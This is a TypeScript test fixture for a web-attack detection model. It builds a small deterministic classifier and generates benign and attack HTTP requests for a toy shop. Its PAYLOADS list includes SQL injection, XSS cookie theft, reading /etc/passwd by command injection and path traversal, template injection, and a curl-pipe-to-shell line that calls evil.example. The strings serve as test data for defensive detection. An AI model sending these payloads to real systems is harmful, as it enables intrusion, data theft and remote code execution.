/**
 * A small model for the tenant API's tests (the shipped one comes from training): a deterministic random
 * backbone of this build's feature spec in which one hidden unit reads the attack-keyword block of the
 * dense features, so the global head scores injections high and plain requests low, plus what a real card
 * carries for the API: `adapt` (the adaptation settings) and `canary` (attack records).
 *
 * Also: generators of benign and attack records of a small shop, deterministic by index.
 */
import { DENSE_DIM, DENSE_NAMES, FEATURE_SPEC } from "../../src/features/mod.ts";
import type { AdaptConfig } from "../../src/heads/adapt.ts";
import { buildModelOnnx, randomModel, specShape } from "../../src/model/mod.ts";
import type { RequestRecord } from "../../src/record/record.ts";

/** The test model's id. */
export const API_MODEL_ID = "test-api-7";

/** The adaptation settings the test model ships. */
export const TEST_ADAPT: AdaptConfig = { method: "gd", steps: 20, lr: 1, prox: 0.2 };

const KEYWORDS = [
  "sql_keywords",
  "shell_keywords",
  "html_js_keywords",
  "path_keywords",
  "template_markers",
  "dot_dot_segments",
  "quote_ratio",
  "angle_ratio",
  "paren_semicolon_ratio",
];

/** The user agent of the test shop's clients. */
export const UA =
  "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36";
/** The test shop's products. */
export const PRODUCTS = ["shoes", "boots", "socks", "hats", "coats", "bags", "belts", "scarves"];
/** Attack payloads the test shop receives. */
export const PAYLOADS = [
  "1' OR '1'='1",
  "1 UNION SELECT username, password FROM users--",
  "<script>alert(document.cookie)</script>",
  "<img src=x onerror=alert(1)>",
  "; cat /etc/passwd",
  "$(curl http://evil.example/x | sh)",
  "../../../../etc/passwd",
  "{{7*7}}${7*7}",
  "1; DROP TABLE orders;--",
  '"><svg onload=alert(1)>',
];

/**
 * A benign request of the test shop.
 *
 * @param i Any integer: the same index gives the same request.
 */
export function benignRecord(i: number): RequestRecord {
  const p = PRODUCTS[i % PRODUCTS.length];
  const kind = i % 4;
  if (kind === 0) {
    return {
      method: "GET",
      url: `/shop/${p}/${1000 + i}?sort=price&page=${i % 5}`,
      headers: { "user-agent": UA },
    };
  }
  if (kind === 1) return { method: "GET", url: `/search?q=red+${p}&lang=en`, headers: { "user-agent": UA } };
  if (kind === 2) {
    return {
      method: "POST",
      url: "/cart",
      headers: { "user-agent": UA, "content-type": "application/x-www-form-urlencoded" },
      // `action=update` names a SQL word: the test model's keyword unit flags the shop's cart posts, its
      // usual false positives (until feature spec v9 the form's content type did: `x-www-form-urlencoded`
      // counted `www` as a path keyword).
      body: `item=${p}&qty=${1 + (i % 3)}&action=update`,
    };
  }
  return { method: "GET", url: `/static/img/${p}-${i}.png`, headers: { "user-agent": UA } };
}

/**
 * An attack on the test shop: a payload injected into one of its parameters.
 *
 * @param i Any integer: the same index gives the same request.
 */
export function attackRecord(i: number): RequestRecord {
  const payload = PAYLOADS[i % PAYLOADS.length];
  const p = PRODUCTS[(i >> 1) % PRODUCTS.length];
  if (i % 3 === 0) {
    return {
      method: "POST",
      url: "/cart",
      headers: { "user-agent": UA, "content-type": "application/x-www-form-urlencoded" },
      body: `item=${encodeURIComponent(payload)}&qty=1`,
    };
  }
  return {
    method: "GET",
    url: `/search?q=${encodeURIComponent(payload)}&cat=${p}`,
    headers: { "user-agent": UA },
  };
}

/** The canary set the test model ships: attack records (the real card draws them from training's families). */
export function canaryRecords(): RequestRecord[] {
  return Array.from({ length: 40 }, (_, i) => attackRecord(1000 + i));
}

/**
 * The test model's ONNX bytes.
 *
 * @param meta Extra or replaced card fields (e.g. `{ adapt: undefined }`, a profile, another canary set).
 */
export function apiModelBytes(meta: Record<string, unknown> = {}): Uint8Array {
  // A fixture, like the records: the assertions on the guard and on adapted heads depend on how the random
  // units (all but unit 0) happen to project the test shop's requests, not only on the keyword unit. With
  // feature spec v8 (a form value hashed as a query value), seed 2 gives such a model (1, the choice from v3
  // to v7, no longer refuses the mislabelled uploads; 3, 4, 5 and 7 fail one to three of the API tests); the
  // guard's behaviour on the shipped model is measured by `scripts/guard_study.ts` and the e2e AUC test.
  const m = randomModel(2, {
    ...specShape(),
    hidden: 32,
    layers: [{ outDim: 16, activation: "tanh" }],
    modelId: API_MODEL_ID,
    tau: 0.5,
  });
  const { W1, Wd, b1, hidden: H, layers } = m.weights;
  // Hidden unit 0 counts attack keywords and nothing else; z[0] follows it.
  for (let i = 0; i < FEATURE_SPEC.dim; i++) W1[i * H] = 0;
  for (let i = 0; i < DENSE_DIM; i++) Wd[i * H] = KEYWORDS.includes(DENSE_NAMES[i]) ? 3 : 0;
  b1[0] = 0;
  const l = layers[0];
  for (let i = 0; i < l.inDim; i++) l.W[i * l.outDim] = i === 0 ? 2 : 0;
  l.b[0] = -0.5;
  const w = m.head.w;
  for (let j = 1; j < w.length; j++) w[j] *= 0.3;
  w[0] = 6;
  m.head.b = -2;
  m.meta.head = { w: Array.from(w), b: m.head.b };
  Object.assign(m.meta, { adapt: TEST_ADAPT, canary: canaryRecords() }, meta);
  for (const [k, v] of Object.entries(meta)) if (v === undefined) delete m.meta[k];
  return buildModelOnnx(m.weights, m.head, m.meta, { quantize: "int8" });
}
